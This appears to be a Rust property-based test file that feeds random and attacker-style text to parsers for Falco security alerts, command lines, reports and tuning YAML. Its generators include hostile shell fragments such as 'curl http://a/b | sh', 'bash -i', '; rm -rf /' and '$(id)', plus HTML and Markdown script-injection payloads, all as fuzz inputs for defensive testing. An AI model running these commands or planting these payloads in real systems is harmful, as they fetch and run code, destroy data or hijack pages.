//! Promises for any input at all: the twins of the targets in `fuzz/`, with inputs that proptest makes up.

#[path = "support/checks.rs"]
mod checks;

use proptest::prelude::*;

/// Texts as attackers write them: Markdown, HTML, YAML, shell, escapes, and anything else.
fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "\\PC{0,60}",
        3 => any::<String>(),
        3 => "[\\[\\]()<>`*_#|~&;:'\"!\\\\ \n\t-]{0,40}",
        2 => "(sh -c |bash -i |curl http://a/b \\| sh|`id`|\\$\\(id\\)|; rm -rf /|&& |> /etc/passwd |\n){0,6}",
        1 => "(<script>|</code></pre>|<img src=x onerror=y>|\\[x\\]\\(javascript:y\\)|<http://e.vil>|\n# |\n```\n|\n---\n|&lt;|\u{1b}\\[2J|\u{202e}){1,5}",
        1 => "(#|- |: |\\{|\\}|\\[|\\]|, |&a|\\*a|!!|%|@|`|\"|'|\n|\\|\n |yes|null|~|0x1|1e3|=|<NA>){1,6}",
        1 => (1..3000usize).prop_map(|length| "ab ".repeat(length)),
    ]
}

fn texts() -> impl Strategy<Value = Vec<String>> {
    prop::collection::vec(text(), 1..12)
}

/// Falco's JSON with these texts in it.
fn json(texts: &[String], seed: u64) -> String {
    let fields: serde_json::Map<String, serde_json::Value> =
        texts.iter().zip(checks::FIELDS).map(|(text, field)| ((*field).to_owned(), text.clone().into())).collect();
    let priority = ["Warning", "notice", "DEBUG", "loud"][seed as usize % 4];
    let time = ["2025-10-09T08:53:20.123456789Z", "1700-01-01T00:00:00Z", "2263-01-01T00:00:00Z", "soon"];
    serde_json::json!({
        "rule": texts[0], "priority": priority, "time": time[seed as usize / 4 % 4], "output": texts[texts.len() / 2],
        "tags": texts, "output_fields": fields, "hostname": texts[texts.len() - 1],
    })
    .to_string()
}

/// Few cases in the everyday run; `PROPTEST_CASES` asks for more.
fn config() -> ProptestConfig {
    if std::env::var_os("PROPTEST_CASES").is_some() {
        ProptestConfig::default()
    } else {
        ProptestConfig::with_cases(96)
    }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn bytes_in_place_of_falcos_message_are_an_alert_or_an_error(bytes: Vec<u8>) {
        checks::falco_proto(&bytes);
    }

    #[test]
    fn a_damaged_message_of_falcos_is_an_alert_or_an_error(
        at in 0..400usize, byte: u8, cut in 0..400usize, extra in prop::collection::vec(any::<u8>(), 0..20),
    ) {
        let mut bytes = include_bytes!("fixtures/wire/gen-json-mix-000.bin").to_vec();
        let length = bytes.len();
        bytes[at % length] = byte;
        bytes.splice(cut % length..cut % length, extra);
        checks::falco_proto(&bytes);
        checks::falco_proto(&bytes[..cut % length]);
    }

    #[test]
    fn text_in_place_of_falcos_json_is_an_alert_or_an_error(texts in texts(), seed: u64, cut: usize) {
        let whole = json(&texts, seed);
        checks::falco_json(&whole);
        checks::falco_json(&texts[0]);
        checks::falco_json(&String::from_utf8_lossy(&whole.as_bytes()[..cut % whole.len()]));
    }

    #[test]
    fn any_text_is_a_command_line(text in text()) {
        checks::command_line(&text);
    }

    #[test]
    fn any_alerts_are_grouped_and_the_same_each_time(
        all in prop::collection::vec((prop::collection::vec("[a-c/ |;]{0,6}|\\PC{0,12}", 1..5), 0..20u64), 1..30),
    ) {
        let alerts: Vec<_> = all.iter().map(|(texts, seed)| checks::alert_of(texts, *seed)).collect();
        checks::dedup(&alerts);
    }

    #[test]
    fn any_filter_and_any_cursor_is_checked_or_refused(bytes: Vec<u8>, texts in texts()) {
        let analysis = checks::analysed(&checks::alert_of(&texts, 3));
        checks::filter_and_cursor(&bytes, &analysis);
        checks::filter_and_cursor(texts[0].as_bytes(), &analysis);
    }

    #[test]
    fn the_report_of_any_alert_is_well_formed_and_has_nothing_active(texts in texts(), seed: u64) {
        checks::report(&checks::alert_of(&texts, seed));
    }

    #[test]
    fn an_exception_for_any_values_parses_back(rule in text(), values in texts()) {
        checks::tuning_yaml(&rule, &values);
    }
}

#[test]
fn bytes_are_split_into_texts_as_the_fuzz_targets_do() {
    assert_eq!(checks::texts_of(b"a\xffb\xff"), ["a", "b", ""]);
}
